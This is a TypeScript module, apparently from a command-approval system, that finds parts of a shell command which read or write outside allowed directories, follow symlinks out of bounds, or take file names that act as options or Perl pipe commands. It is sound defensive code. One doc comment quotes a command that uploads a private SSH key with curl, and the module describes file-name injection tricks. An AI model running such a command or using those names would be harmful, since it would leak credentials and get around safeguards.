// What keeps a part of a command from running without approval although it is read-only, or a rule or the mode would
// allow it: a file outside the working directories, a folder that could not be checked, a file named like an option.

import type { SimpleCommand } from "./analysis/command.ts";
import { filesOf, type NamedFile } from "./files/command-files.ts";
import { allEndsIn, endsIn, type CommandView } from "./command-view.ts";
import { copyOf, followedBy, landings, searchedBy, transferOf } from "./files/deep.ts";
import { listsLinks, printerFor } from "./inner/xargs.ts";
import { absolute, climbsBack } from "../match/paths.ts";
import { allowedByPath, isInWorkingDirs, isReadable, type Ends } from "../question.ts";
import { looksOnlyButRedirects } from "../read-only/read-only.ts";

export interface Obstacle {
  readonly why: "outside" | "unseen" | "option";
  readonly path: string;
}

export function obstacleIn(part: SimpleCommand, view: CommandView): Obstacle | undefined {
  const { question, lost } = view;
  if (lost) return { why: "outside", path: view.places.at(-1)! };
  const places = view.placesOf(part);
  const looks = looksOnlyButRedirects(part);
  const files = filesOf(part, places, question.home, "lenient");
  const climbing = files.length > 0 ? climbingWord(part) : undefined;
  if (climbing !== undefined) return { why: "outside", path: climbing };
  const use = looks ? "read" : "edit";
  for (const file of files) {
    const obstacle = obstacleAt(file, use, view);
    if (obstacle) return obstacle;
  }
  return (
    ledOut(followedBy(part, places, question.home), view) ??
    carriedOut(part, view) ??
    writtenThrough(part, view) ??
    optionLike(part, view)
  );
}

const OPENS_NOTHING = new Set(["[", "[[", "readlink", "realpath", "test"]);

function climbingWord({ words, redirections }: SimpleCommand): string | undefined {
  const targets = redirections.filter(({ kind }) => kind === "read").map(({ target }) => target);
  const named = OPENS_NOTHING.has(words[0]?.value ?? "") ? targets : [...words, ...targets];
  return named.find((word) => climbsBack(word.value))?.value;
}

function obstacleAt(file: NamedFile, use: "read" | "edit", view: CommandView): Obstacle | undefined {
  // Where output goes is judged separately.
  if (file.path === "/dev/null" || (file.redirected && file.use === "write")) return undefined;
  const all = allEndsIn(file, view.question);
  const outside = (all ?? [endsIn(file, view.question)]).some((ends) => !isWithin(ends, use, view));
  if (outside || file.path.split("/").includes("..")) return { why: "outside", path: file.path };
  return all === undefined ? { why: "unseen", path: file.path } : undefined;
}

function isWithin(ends: Ends, use: "read" | "edit", { question }: CommandView): boolean {
  const inside = use === "read" ? isReadable(ends, question) : isInWorkingDirs(ends, question);
  return inside || allowedByPath(use, ends, question) !== undefined;
}

/** A file outside that its input comes from: `curl -T - host < ~/.ssh/key`. */
export function inputFromOutside(part: SimpleCommand, view: CommandView): Obstacle | undefined {
  const { question } = view;
  const files = filesOf({ ...part, words: [] }, view.placesOf(part), question.home, "lenient");
  const read = files.filter(({ use, path }) => use === "read" && path !== "/dev/stdin");
  return read.map((file) => obstacleAt(file, "read", view)).find(Boolean);
}

/** A link among the names that `xargs` passes on. */
export function fedOut(part: SimpleCommand, view: CommandView): Obstacle | undefined {
  const feeder = printerFor(part, view.analysis.commands);
  if (feeder === undefined || !listsLinks(feeder)) return undefined;
  return ledOut(searchedBy(feeder, view.places, view.question.home), view);
}

/** Where a program that follows links would leave the working directories. */
function ledOut(folders: readonly { readonly path: string }[], view: CommandView): Obstacle | undefined {
  for (const { path } of folders) {
    const inside = view.question.onDisk?.contents.get(path);
    if (inside === undefined) return { why: "unseen", path };
    const out = inside.find((ends) => ends.given !== ends.real && !isWithin(ends, "read", view));
    if (out) return { why: "outside", path: out.given };
  }
  return undefined;
}

/**
 * Links that are copied or moved: they may lead elsewhere from their new place, and the rest of the command could use
 * them.
 */
function carriedOut(part: SimpleCommand, view: CommandView): Obstacle | undefined {
  const { analysis, places, question } = view;
  if (analysis.commands.length < 2) return undefined;
  for (const { path, pattern } of transferOf(part, places, question.home)?.sources ?? []) {
    const inside = question.onDisk?.contents.get(path);
    const named = pattern ? question.onDisk?.matches.get(path) : [endsIn({ path, pattern }, question)];
    if (inside === undefined || named === undefined) return { why: "unseen", path };
    const link = [...named, ...inside].find((ends) => ends.given !== ends.real);
    if (link) return { why: "unseen", path: link.given };
  }
  return linkedElsewhere(part, view);
}

/** A link's target is relative to the folder of the link, not to the current folder. */
function linkedElsewhere({ words: [program, ...words] }: SimpleCommand, { places }: CommandView): Obstacle | undefined {
  const up = program?.value === "ln" ? words.find(({ value }) => value.split("/").includes("..")) : undefined;
  return up && { why: "unseen", path: absolute(places[0]!, up.value) };
}

/** A copy writes through a link that already exists at its target. */
function writtenThrough(part: SimpleCommand, view: CommandView): Obstacle | undefined {
  const { places, question } = view;
  const copy = copyOf(part, places, question.home);
  if (copy === undefined) return undefined;
  const all = landings(copy, question.onDisk?.contents ?? new Map());
  const out = all.find((path) => !isWithin(endsIn({ path, pattern: false }, question), "edit", view));
  return out === undefined ? undefined : { why: "outside", path: out };
}

/**
 * A file whose name the program would read as something else: an option, a list of further words (`-R`, `--pre=x`, `@x`), or
 * for Perl a command (`x|`).
 */
export function optionLike(part: SimpleCommand, { places, question }: CommandView): Obstacle | undefined {
  const isPerl = /(?:^|\/)perl[-.\d]*$/.test(part.words[0]?.value ?? "");
  for (const file of filesOf(part, places, question.home, "lenient")) {
    if (!file.loose && !(isPerl && file.pattern && !file.redirected)) continue;
    const found = question.onDisk?.matches.get(file.path);
    if (found === undefined) return { why: "unseen", path: file.path };
    const folder = endsIn(file, question).given.replace(/\/$/, "");
    const isOdd = (name: string) => (file.loose && /^[-+@]/.test(name)) || (isPerl && /^\s*[|<>]|\|\s*$/.test(name));
    const odd = found.find(({ given }) => isOdd(given.slice(folder.length + 1)));
    if (odd) return { why: "option", path: odd.given };
  }
  return undefined;
}
